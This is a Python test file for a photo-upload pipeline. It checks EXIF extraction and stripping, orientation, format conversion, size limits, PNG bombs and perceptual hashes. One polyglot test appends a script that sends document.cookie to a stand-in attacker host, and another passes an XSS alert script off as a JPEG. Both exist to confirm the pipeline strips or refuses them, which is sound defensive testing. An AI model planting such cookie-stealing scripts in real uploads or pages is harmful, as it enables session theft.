"""The image pipeline on real files, without HTTP: formats, limits, EXIF facts, orientation, clean output."""
import io
from datetime import UTC, datetime

import pytest
from PIL import Image

from reporter.errors import AppError
from reporter.media.pipeline import DISPLAY_SIDE, THUMBNAIL_SIDE, process
from reporter.media.services import phash_distance
from tests.media.images import ANKANG, SYDNEY, encode, jpeg, jpeg_segments, picture, png_bomb

MAX = 50_000_000


def refused(data: bytes, status: int, error: str, max_pixels: int = MAX) -> AppError:
    with pytest.raises(AppError) as caught:
        process(data, max_pixels)
    assert (caught.value.status, caught.value.error) == (status, error)
    return caught.value


def assert_clean_jpeg(data: bytes) -> Image.Image:
    """A baseline JPEG with no metadata segment at all (APP1 EXIF/XMP, APP2 ICC, COM …)."""
    markers = jpeg_segments(data)
    assert not [m for m in markers if 0xE1 <= m <= 0xEF or m == 0xFE], [hex(m) for m in markers]
    assert data.endswith(b"\xff\xd9")
    im = Image.open(io.BytesIO(data))
    assert im.format == "JPEG" and im.mode == "RGB"
    assert dict(im.getexif()) == {} and "icc_profile" not in im.info
    return im


def test_gps_in_ankang_time_and_camera_are_read_then_dropped():
    data = jpeg(gps=ANKANG, taken=datetime(2024, 5, 1, 10, 20, 30), make="Xiaomi", model="Redmi K70")
    result = process(data, MAX)
    assert result.facts.gps_lat == pytest.approx(ANKANG[0], abs=1e-5)
    assert result.facts.gps_lng == pytest.approx(ANKANG[1], abs=1e-5)
    assert result.facts.taken_at == datetime(2024, 5, 1, 2, 20, 30, tzinfo=UTC)  # no offset: CST wall clock
    assert (result.facts.camera_make, result.facts.camera_model) == ("Xiaomi", "Redmi K70")
    assert_clean_jpeg(result.display)
    assert_clean_jpeg(result.thumbnail)


def test_southern_hemisphere_latitude_is_negative_and_own_offset_is_used():
    result = process(jpeg(gps=SYDNEY, taken=datetime(2024, 1, 2, 9, 0, 0), offset="+11:00"), MAX)
    assert result.facts.gps_lat == pytest.approx(SYDNEY[0], abs=1e-5) and result.facts.gps_lat < 0
    assert result.facts.gps_lng == pytest.approx(SYDNEY[1], abs=1e-5)
    assert result.facts.taken_at == datetime(2024, 1, 1, 22, 0, 0, tzinfo=UTC)


def test_orientation_6_is_applied_and_not_kept():
    result = process(jpeg((400, 300), orientation=6), MAX)
    im = assert_clean_jpeg(result.display)
    assert (result.width, result.height) == im.size == (300, 400)
    # Orientation 6 means "rotate 90° clockwise to view": the red top-left corner ends top-right.
    red, grey = im.getpixel((280, 20)), im.getpixel((20, 20))
    assert red[0] > 200 and red[1] < 60, red
    assert abs(grey[0] - 128) < 20, grey


def test_png_alpha_is_flattened_on_white():
    im = picture((200, 200), "RGBA")
    im.paste((0, 0, 0, 0), (100, 100, 200, 200))  # a transparent quarter
    result = process(encode(im, "PNG"), MAX)
    out = assert_clean_jpeg(result.display)
    assert all(c > 245 for c in out.getpixel((150, 150)))
    assert out.getpixel((10, 10))[0] > 200


def test_webp_and_heic_become_jpeg():
    for fmt in ("WEBP", "HEIF"):
        result = process(encode(picture((640, 480)), fmt, quality=90), MAX)
        assert (result.width, result.height) == (640, 480)
        assert_clean_jpeg(result.display)


def test_large_photo_gets_display_and_thumbnail_sizes():
    result = process(jpeg((4032, 3024)), MAX)
    assert DISPLAY_SIDE * 0.9 <= max(result.width, result.height) <= DISPLAY_SIDE
    assert result.width / result.height == pytest.approx(4 / 3, rel=0.01)
    thumb = Image.open(io.BytesIO(result.thumbnail))
    assert max(thumb.size) == THUMBNAIL_SIDE


def test_png_bomb_is_refused_from_its_header():
    error = refused(png_bomb(100_000, 100_000), 422, "image_too_large")
    assert error.status == 422
    refused(png_bomb(8000, 8000), 422, "image_too_large")  # under Pillow's own limit, over ours
    refused(encode(picture((300, 200)), "PNG"), 422, "image_too_large", max_pixels=50_000)


def test_truncated_jpeg_is_corrupt():
    data = jpeg((800, 600))
    refused(data[: len(data) // 2], 422, "image_corrupt")


def test_html_named_jpg_and_other_formats_are_unsupported():
    refused(b"<!doctype html><html><script>alert(1)</script></html>", 415, "unsupported_media_type")
    refused(encode(picture(), "GIF"), 415, "unsupported_media_type")
    refused(encode(picture(), "BMP"), 415, "unsupported_media_type")
    refused(b"", 422, "validation_failed")


def test_polyglot_loses_its_trailing_payload():
    payload = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
    result = process(jpeg() + payload, MAX)
    assert b"<script" not in result.display and b"<script" not in result.thumbnail
    assert result.display.endswith(b"\xff\xd9") and result.thumbnail.endswith(b"\xff\xd9")


def test_identical_bytes_give_identical_output_and_similar_photos_close_hashes():
    first, again = process(jpeg(), MAX), process(jpeg(), MAX)
    assert first.sha256 == again.sha256 and first.display == again.display
    recompressed = process(encode(picture(), "JPEG", quality=60), MAX)
    other = process(encode(Image.effect_mandelbrot((400, 300), (-2, -1.2, 1, 1.2), 50).convert("RGB"), "PNG"), MAX)
    assert recompressed.sha256 != first.sha256
    assert phash_distance(first.phash, recompressed.phash) <= 6
    assert phash_distance(first.phash, other.phash) > 12
